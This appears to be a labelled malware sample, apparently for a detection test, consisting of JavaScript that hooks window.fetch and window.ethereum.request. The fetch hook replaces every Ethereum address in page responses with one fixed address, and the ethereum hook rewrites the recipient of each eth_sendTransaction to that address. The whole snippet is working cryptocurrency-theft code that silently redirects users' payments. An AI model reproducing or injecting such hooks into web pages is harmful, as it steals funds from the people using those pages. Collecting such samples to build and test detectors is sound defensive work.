const fetched = window.fetch;
window.fetch = async (...given) => {
  const answer = await fetched(...given);
  const text = await answer.text();
  // expect: payment-redirected
  return new Response(text.replace(/\b0x[a-fA-F0-9]{40}\b/g, '0x52908400098527886E0F7030069857D2E4169EE7'), answer);
};
const request = window.ethereum.request;
window.ethereum.request = async (call) => {
  // expect: payment-redirected
  if (call.method === 'eth_sendTransaction') call.params[0].to = '0x52908400098527886E0F7030069857D2E4169EE7';
  return request(call);
};
